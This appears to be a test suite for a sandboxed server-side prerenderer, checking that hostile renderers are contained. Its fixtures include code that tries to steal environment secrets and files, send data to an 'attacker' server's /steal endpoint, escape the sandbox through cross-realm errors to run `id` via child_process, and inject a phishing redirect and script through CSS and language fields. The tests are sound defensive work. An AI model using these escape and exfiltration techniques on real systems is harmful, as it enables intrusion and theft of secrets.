// The shell's server prerenders with the public site's renderer only as far as it trusts it: a
// renderer that reaches for the server's powers gets none and is reported, one that does not match
// its release is not run, one that loops, floods the API, answers too much or a status a page
// cannot have is cut off or refused, and the shell keeps serving through all of them.
import fs from 'node:fs';
import http, { type IncomingMessage, type RequestListener, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { startStaticServer, type StaticServer } from '../serve.ts';
import { createPrerenderer, rendererOriginsFrom } from '../prerender.ts';
import { digestOf } from '../../release/release.ts';

const SECRET = 'shell-secret-7f3a';
const TEMPLATE = '<!doctype html><html><head><title>Academy</title></head><body><div id="root"></div></body></html>';
const MANIFEST = JSON.stringify({ exposes: [] });
const PAGE = "{ status: 200, meta: { title: 'T', description: 'D', siteName: 'S' } }";
const STYLES = 'main{color:green}';
/**
 * A render's limit here: the default (1 s, a fresh process's start five times that) holds on a
 * production server, not on a test machine that runs other suites on the same cores.
 */
const RENDER_TIMEOUT_MS = 3000;
const PHISHING = '<meta http-equiv="refresh" content="0;url=https://phish.example/">';

/** A renderer as the public site's build would ship it: CommonJS, exporting render and publicPaths. */
const RENDERERS = {
  honest: `
    exports.render = async ({ url, config }) => {
      const faq = await (await fetch(config.apiBaseUrl + '/content/faq')).json();
      return { ...${PAGE}, html: '<main><h1>Rendered ' + url + '</h1><p>' + faq[0].question + '</p></main>', data: { faq } };
    };
    exports.publicPaths = async () => ['/', '/faq'];`,
  hostile: `
    exports.render = async ({ url, config }) => {
      const loot = [];
      const attempt = (what, take) => {
        try { loot.push(what + ': ' + String(take())); } catch (error) { loot.push(what + ' failed (' + error.message + ')'); }
      };
      attempt('environment', () => JSON.stringify(process.env));
      attempt('file', () => require('fs').readFileSync('/etc/hostname', 'utf8'));
      attempt('escape through the global', () => globalThis.constructor.constructor('return process')().env.PRERENDER_SECRET);
      attempt('escape through a timer', () => setTimeout.constructor('return process')().env.PRERENDER_SECRET);
      attempt('escape through fetch', () => fetch.constructor('return process')().env.PRERENDER_SECRET);
      try { await import('node:fs'); loot.push('module: loaded'); } catch (error) { loot.push('module failed (' + error.message + ')'); }
      for (const address of [config.apiBaseUrl.replace('/api/v1', '') + '/collect', 'http://127.0.0.1:' + url.slice(1) + '/steal']) {
        try { await fetch(address); loot.push('network: reached ' + address); } catch (error) { loot.push('network failed (' + error.message + ')'); }
      }
      if (url === '/loud') throw new Error(loot.join('; '));
      return { ...${PAGE}, html: '<main>' + loot.join('; ') + '</main>' };
    };`,
  // the probe's escape: with the stack nearly full, each function of its environment is called until
  // one throws an error of another realm, whose constructors lead to that realm's Function, then
  // process, child_process and \`id\`
  escaping: `
    exports.render = async ({ url }) => {
      const marker = decodeURIComponent(url.slice(1));
      const helpers = [
        () => new URL('http://a.example/x?y=1'),
        () => new URL('http://a.example/').searchParams.get('y'),
        () => new URLSearchParams('a=1&b=2').toString(),
        () => URL.canParse('http://a.example/'),
        () => setTimeout(() => undefined, 0),
        () => console.log('x'),
        () => fetch('http://a.example/'),
      ];
      const foreign = [];
      for (const helper of helpers) {
        let found = null;
        const dive = () => {
          try { dive(); } catch {}
          if (found) return;
          try { helper(); } catch (error) { if (error !== null && typeof error === 'object' && !(error instanceof Error)) found = error; }
        };
        dive();
        if (found) foreign.push(found);
      }
      const routes = [
        (error) => error.constructor.constructor,
        (error) => Object.getPrototypeOf(Object.getPrototypeOf(error)).constructor.constructor,
        (error) => Reflect.construct(error.constructor, [], error.constructor).constructor.constructor,
      ];
      const tries = ['foreign errors: ' + foreign.length];
      for (const error of foreign) {
        for (const route of routes) {
          try {
            const host = route(error)('return process')();
            const out = String(host.getBuiltinModule('node:child_process').execSync('id'));
            host.getBuiltinModule('node:fs').writeFileSync(marker, out);
            tries.push('ran: ' + out);
          } catch (caught) {
            tries.push('failed: ' + String(caught && caught.message));
          }
        }
      }
      return { ...${PAGE}, html: '<main>' + tries.join('; ') + '</main>' };
    };`,
  looping: `
    exports.render = async ({ url }) => {
      if (url === '/loop') for (;;) {}
      return { ...${PAGE}, html: '<main>Rendered ' + url + '</main>' };
    };`,
  flooding: `
    exports.render = async ({ url, config }) => {
      const faq = config.apiBaseUrl + '/content/faq';
      if (url === '/at-once') await Promise.all(Array.from({ length: 5000 }, () => fetch(faq)));
      else for (let i = 0; i < 5000; i++) await fetch(faq);
      return { ...${PAGE}, html: '<main>flooded</main>' };
    };`,
  huge: `exports.render = async () => ({ ...${PAGE}, html: '<main>' + 'x'.repeat(30 * 1024 * 1024) + '</main>' });`,
  // '/302' answers 302, '/301?https://elsewhere.example/' 301 with that Location
  statuses: `
    exports.render = async ({ url }) => {
      const [status, location] = url.slice(1).split('?');
      return { ...${PAGE}, status: Number(status), location, html: '<main>Status ' + status + '</main>' };
    };`,
};

function listen(handler: RequestListener) {
  const server = http.createServer(handler);
  return new Promise<Server>((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}
const portOf = (server: Server) => (server.address() as AddressInfo).port;
const origin = (server: Server) => `http://127.0.0.1:${portOf(server)}`;

/** The public site's files, which a test changes as a deploy (or an attacker) would. */
function publicSite() {
  const files: Record<string, string> = {};
  const site = {
    files,
    /** `releasedRenderer` and `releasedStyles`: what release.json names, when not what is served. */
    deploy(
      renderer: string,
      { releasedRenderer = renderer, styles = STYLES, releasedStyles = styles }: Partial<Record<'releasedRenderer' | 'styles' | 'releasedStyles', string>> = {},
    ) {
      files['/server/render.js'] = renderer;
      files['/server/styles.css'] = styles;
      files['/release.json'] = JSON.stringify({
        version: '1.0.0',
        builtAt: new Date().toISOString(),
        commit: null,
        renderer: { sha256: digestOf(releasedRenderer), stylesSha256: digestOf(releasedStyles) },
      });
    },
  };
  Object.assign(files, { '/remoteEntry.js': '', '/mf-manifest.json': MANIFEST });
  return {
    site,
    handler: (request: IncomingMessage, response: ServerResponse) =>
      response.writeHead(files[request.url ?? ''] === undefined ? 404 : 200).end(files[request.url ?? ''] ?? ''),
  };
}

let api: Server;
let apiRequests: { url: string | undefined; requestId: string | string[] | undefined }[];
let attacker: Server;
let attackerRequests: (string | undefined)[];
let site: ReturnType<typeof publicSite>['site'];
let siteServer: Server;
let shell: StaticServer;
let logs: Record<string, unknown>[];
let distDir: string;

beforeAll(async () => {
  process.env.PRERENDER_SECRET = SECRET;
  apiRequests = [];
  api = await listen((request, response) => {
    apiRequests.push({ url: request.url, requestId: request.headers['x-request-id'] });
    if (request.url === '/api/v1/content/faq') return response.end(JSON.stringify([{ id: 1, question: 'Who may apply?', answer: 'Anyone.' }]));
    response.writeHead(404).end('{}');
  });
  attackerRequests = [];
  attacker = await listen((request, response) => {
    attackerRequests.push(request.url);
    response.end('ok');
  });
  const served = publicSite();
  site = served.site;
  siteServer = await listen(served.handler);
  distDir = fs.mkdtempSync(path.join(os.tmpdir(), 'academy-shell-'));
  fs.writeFileSync(path.join(distDir, 'index.html'), TEMPLATE);
  logs = [];
  const config = { apiBaseUrl: `${origin(api)}/api/v1`, remotes: { public_site: `${origin(siteServer)}/remoteEntry.js` }, embedHosts: [] };
  shell = await startStaticServer({
    area: 'shell',
    distDir,
    port: 0,
    config,
    publicUrl: 'http://localhost:3000',
    prerendering: { pageTtlMs: 0, contentTtlMs: 0, renderTimeoutMs: RENDER_TIMEOUT_MS },
    logger: { level: 'info', stream: { write: (line: string) => logs.push(JSON.parse(line)) } },
  });
});

afterAll(async () => {
  await shell?.close();
  for (const server of [api, attacker, siteServer]) server?.close();
  fs.rmSync(distDir, { recursive: true, force: true });
  delete process.env.PRERENDER_SECRET;
});

beforeEach(() => {
  logs.length = 0;
  apiRequests.length = 0;
  attackerRequests.length = 0;
});

async function page(pathname: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${shell.url}${pathname}`, { headers });
  return { status: response.status, requestId: response.headers.get('x-request-id'), html: await response.text() };
}

const rootOf = (html: string) => /<div id="root">([\s\S]*?)<\/div>\s*<\/body>/.exec(html)?.[1] ?? '';
const failures = () => logs.filter((line) => line.msg === 'prerendering failed: the page is sent unrendered');

test('the released renderer renders, with the FAQ the shell fetched for it under the page request id', async () => {
  site.deploy(RENDERERS.honest);
  const about = await page('/about', { 'X-Request-Id': 'proxy-given-42' });
  expect(rootOf(about.html)).toBe('<main><h1>Rendered /about</h1><p>Who may apply?</p></main>');
  expect(about.requestId).toBe('proxy-given-42');
  expect(apiRequests).toEqual([{ url: '/api/v1/content/faq', requestId: 'proxy-given-42' }]);
  expect(logs).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ reqId: 'proxy-given-42', msg: 'page prerendered', path: '/about', status: 200, renderMs: expect.any(Number) }),
    ]),
  );
  const sitemap = await (await fetch(`${shell.url}/sitemap.xml`)).text();
  expect(sitemap).toContain('<loc>http://localhost:3000/faq</loc>');
});

test('a renderer reaching for the environment, files, other addresses or Node gets none of them, and is reported', async () => {
  site.deploy(RENDERERS.hostile);
  const port = portOf(attacker);
  const quiet = await page(`/${port}`);
  const markup = rootOf(quiet.html);
  expect(markup).toMatch(/environment failed \(process is not defined\)/);
  expect(markup).toMatch(/file failed \(require is not defined\)/);
  expect(markup).toMatch(/escape through the global failed/);
  expect(markup).toMatch(/escape through a timer failed/);
  expect(markup).toMatch(/escape through fetch failed/);
  expect(markup).toMatch(/module failed/);
  expect(markup).not.toMatch(/network: reached/);
  expect(quiet.html).not.toContain(SECRET);
  expect(attackerRequests).toEqual([]);
  expect(apiRequests).toEqual([]);
  const refused = logs.filter((line) => line.msg === "the renderer asked for an address outside the API's public content: refused").map((line) => line.url);
  expect(refused).toEqual([`${origin(api)}/collect`, `http://127.0.0.1:${port}/steal`]);

  // one that fails with what it tried: the page goes out unrendered, the failure is logged
  const loud = await page('/loud');
  expect([loud.status, rootOf(loud.html)]).toEqual([200, '']);
  expect(failures()).toEqual([
    expect.objectContaining({ path: '/loud', reason: 'threw', err: expect.objectContaining({ message: expect.stringContaining('process is not defined') }) }),
  ]);
  expect(JSON.stringify(logs)).not.toContain(SECRET);
});

test("a renderer that overflows the stack in its environment's functions reaches no other realm, and cannot run id", async () => {
  site.deploy(RENDERERS.escaping);
  // where anyone could write, the renderer's user included
  const markerDir = fs.mkdtempSync(path.join(os.tmpdir(), 'academy-escape-'));
  fs.chmodSync(markerDir, 0o777);
  const marker = path.join(markerDir, 'escaped');
  try {
    const escaped = await page(`/${encodeURIComponent(marker)}`);
    expect(escaped.html).not.toContain('uid=');
    expect(fs.existsSync(marker)).toBe(false);
    expect(rootOf(escaped.html)).toContain('foreign errors: 0');
  } finally {
    fs.rmSync(markerDir, { recursive: true, force: true });
  }
});

test('a renderer that does not match its release is not run: the page goes out unrendered, the sitemap lists the pages listed last', async () => {
  site.deploy(RENDERERS.honest);
  const sitemap = () => fetch(`${shell.url}/sitemap.xml`).then(async (response) => [response.status, await response.text()]);
  expect(await sitemap()).toEqual([200, expect.stringContaining('<loc>http://localhost:3000/faq</loc>')]);

  // the next release names its renderer; another is served
  const tamperedRenderer = `${RENDERERS.honest}\nexports.render = async () => ({ ...${PAGE}, html: 'tampered' });`;
  site.deploy(tamperedRenderer, { releasedRenderer: `${RENDERERS.honest}\n// the next release` });
  const tampered = await page('/about');
  expect([tampered.status, rootOf(tampered.html)]).toEqual([200, '']);
  expect(failures()).toEqual([
    expect.objectContaining({ reason: 'refused', err: expect.objectContaining({ message: expect.stringContaining('does not match its release') }) }),
  ]);
  expect(await sitemap()).toEqual([200, expect.stringContaining('<loc>http://localhost:3000/faq</loc>')]);

  site.deploy(RENDERERS.honest);
  expect(rootOf((await page('/about')).html)).toContain('Rendered /about');
});

test('CSS that does not match its release is not used, and released CSS cannot close its element', async () => {
  site.deploy(RENDERERS.honest, { styles: `main{color:red}</style>${PHISHING}`, releasedStyles: 'main{color:blue}' });
  const tampered = await page('/about');
  expect([tampered.status, rootOf(tampered.html)]).toEqual([200, '']);
  expect(tampered.html).not.toContain('phish.example');
  expect(failures()).toEqual([expect.objectContaining({ reason: 'refused', err: expect.objectContaining({ message: expect.stringContaining('CSS at') }) })]);

  site.deploy(RENDERERS.honest, { styles: `main{color:red}</style>${PHISHING}` });
  const released = await page('/about');
  expect(rootOf(released.html)).toContain('Rendered /about');
  expect(released.html).not.toContain(`</style>${PHISHING}`);
  expect(released.html).toContain(`<style id="prerendered-css">main{color:red}<\\/style>${PHISHING}</style>`);
});

test('a renderer that floods the API gets at most its ten fetches, and the page goes out unrendered', async () => {
  site.deploy(RENDERERS.flooding);
  const oneByOne = await page('/one-by-one');
  expect([oneByOne.status, rootOf(oneByOne.html)]).toEqual([200, '']);
  expect(apiRequests.length).toBe(10);
  const atOnce = await page('/at-once');
  expect([atOnce.status, rootOf(atOnce.html)]).toEqual([200, '']);
  expect(apiRequests.length).toBe(10);
  expect(failures()).toEqual([
    expect.objectContaining({ path: '/one-by-one', reason: 'exceeded' }),
    expect.objectContaining({ path: '/at-once', reason: 'exceeded' }),
  ]);
});

test('a page over 2 MB is refused: it goes out unrendered', async () => {
  site.deploy(RENDERERS.huge);
  const huge = await page('/huge');
  expect([huge.status, rootOf(huge.html)]).toEqual([200, '']);
  expect(huge.html.length).toBeLessThan(10_000);
  expect(failures()).toEqual([expect.objectContaining({ path: '/huge', reason: 'exceeded' })]);
});

test('a page answers 200, 404 or 410 as rendered; any other status, a redirect included, sends it unrendered', async () => {
  site.deploy(RENDERERS.statuses);
  for (const status of [200, 404, 410]) {
    const rendered = await page(`/${status}`);
    expect([rendered.status, rootOf(rendered.html)]).toEqual([status, `<main>Status ${status}</main>`]);
  }
  for (const pathname of ['/302', '/301?https://elsewhere.example/', '/500', '/204']) {
    const refused = await page(pathname);
    expect([refused.status, rootOf(refused.html)]).toEqual([200, '']);
  }
  expect(failures().map((line) => line.reason)).toEqual(['refused', 'refused', 'refused', 'refused']);
});

test("a page's language and its addresses in other languages go to the document only as a language tag, a direction and paths on the site", async () => {
  site.deploy(`
    exports.render = async ({ url }) => {
      const [lang, dir, path] = decodeURIComponent(url.slice(1)).split('|');
      return { status: 200, html: '<main>' + lang + '</main>', meta: { title: 'T', description: 'D', siteName: 'S', lang, dir, alternates: [{ hreflang: lang, path }] } };
    };`);
  const arabic = await page(`/${encodeURIComponent('ar|rtl|/ar/faq')}`);
  expect(arabic.html).toContain('<html lang="ar" dir="rtl">');
  expect(arabic.html).toContain('<link rel="alternate" hreflang="ar" href="http://localhost:3000/ar/faq" />');
  for (const hostile of ['fr"><script>x</script>|ltr|/fr', 'fr|sideways|/fr', 'fr|ltr|//phish.example/fr']) {
    const refused = await page(`/${encodeURIComponent(hostile)}`);
    expect([hostile, rootOf(refused.html)]).toEqual([hostile, '']);
  }
  expect(failures().map((line) => line.reason)).toEqual(['refused', 'refused', 'refused']);
});

test('a renderer that loops is cut off, the shell answers other pages meanwhile, and the next page renders in a fresh process', async () => {
  site.deploy(RENDERERS.looping);
  // the first render of a process has the start's allowance: the loop comes after it
  expect(rootOf((await page('/about')).html)).toBe('<main>Rendered /about</main>');
  const looping = page('/loop');
  const [config, portal, other] = await Promise.all([fetch(`${shell.url}/app-config.json`), page('/portal/dashboard'), page('/faq')]);
  expect([config.status, portal.status, other.status]).toEqual([200, 200, 200]);
  expect(portal.html).toContain('<div id="root"></div>');
  // the other public page waited its turn, or for as long as a render may take: then unrendered
  expect(rootOf(other.html)).toMatch(/^(<main>Rendered \/faq<\/main>)?$/);
  const cutOff = await looping;
  expect([cutOff.status, rootOf(cutOff.html)]).toEqual([200, '']);
  expect(failures()).toEqual(expect.arrayContaining([expect.objectContaining({ path: '/loop', reason: 'timeout' })]));
  expect(rootOf((await page('/programs')).html)).toBe('<main>Rendered /programs</main>');
});

test('a renderer is trusted from https origins and this machine only', () => {
  const config = { remotes: { public_site: 'https://public.academy.example/remoteEntry.js' } };
  expect(rendererOriginsFrom({}, config)).toEqual(['https://public.academy.example']);
  expect(rendererOriginsFrom({ PRERENDER_ORIGINS: 'https://a.example, http://localhost:3001,http://127.0.0.1:9' }, config)).toEqual([
    'https://a.example',
    'http://localhost:3001',
    'http://127.0.0.1:9',
  ]);
  expect(() => rendererOriginsFrom({ PRERENDER_ORIGINS: 'http://public.academy.example' }, config)).toThrow(/only https outside localhost/);
  expect(rendererOriginsFrom({}, { remotes: { public_site: 'http://public.academy.example/remoteEntry.js' } })).toEqual([]);
});

test("one origin behind a proxy: paths in the configuration are on the site's address, where the renderer and the API's content are fetched", async () => {
  site.deploy(RENDERERS.honest);
  // the proxy in front: the public site under its path, the API under /api
  const AREA_PATH = '/areas/public-site';
  const proxy = await listen((request, response) => {
    const url = request.url ?? '';
    if (!url.startsWith(`${AREA_PATH}/`)) return http.get(`${origin(api)}${url}`, (answer) => answer.pipe(response));
    request.url = url.slice(AREA_PATH.length);
    return siteServer.emit('request', request, response);
  });
  const siteUrl = origin(proxy);
  const config = { apiBaseUrl: '/api/v1', remotes: { public_site: `${AREA_PATH}/remoteEntry.js` } };
  expect(rendererOriginsFrom({}, config, siteUrl)).toEqual([siteUrl]);
  const prerenderer = createPrerenderer({ siteUrl, trustedOrigins: [siteUrl], renderTimeoutMs: RENDER_TIMEOUT_MS });
  try {
    const rendered = await prerenderer.render('/faq', config);
    expect(rendered.html).toBe('<main><h1>Rendered /faq</h1><p>Who may apply?</p></main>');
    expect(apiRequests.map(({ url }) => url)).toEqual(['/api/v1/content/faq']);
  } finally {
    await prerenderer.close();
    proxy.close();
  }
});

test('a public site on an origin the shell does not trust is not prerendered, and its sitemap lists the home page', async () => {
  const prerenderer = createPrerenderer({ trustedOrigins: ['https://public.academy.example'] });
  const config = { apiBaseUrl: `${origin(api)}/api/v1`, remotes: { public_site: `${origin(siteServer)}/remoteEntry.js` } };
  await expect(prerenderer.render('/', config)).rejects.toThrow(/is not trusted to prerender/);
  expect(await prerenderer.paths(config)).toEqual(['/']);
  await prerenderer.close();
});

test('the page cache keeps at most maxPages pages, the least recently used going first', async () => {
  site.deploy(RENDERERS.honest);
  const config = { apiBaseUrl: `${origin(api)}/api/v1`, remotes: { public_site: `${origin(siteServer)}/remoteEntry.js` } };
  const prerenderer = createPrerenderer({ trustedOrigins: [origin(siteServer)], maxPages: 2, renderTimeoutMs: RENDER_TIMEOUT_MS });
  // each render the cache does not answer asks the API for the FAQ
  const rendersFor = async (paths: string[]) => {
    apiRequests.length = 0;
    for (const pathname of paths) await prerenderer.render(pathname, config);
    return apiRequests.length;
  };
  try {
    expect(await rendersFor(['/a', '/b', '/a'])).toBe(2);
    expect(await rendersFor(['/c'])).toBe(1);
    expect(prerenderer.cachedPages()).toBe(2);
    expect(await rendersFor(['/a'])).toBe(0);
    expect(await rendersFor(['/b'])).toBe(1);
  } finally {
    await prerenderer.close();
  }
});
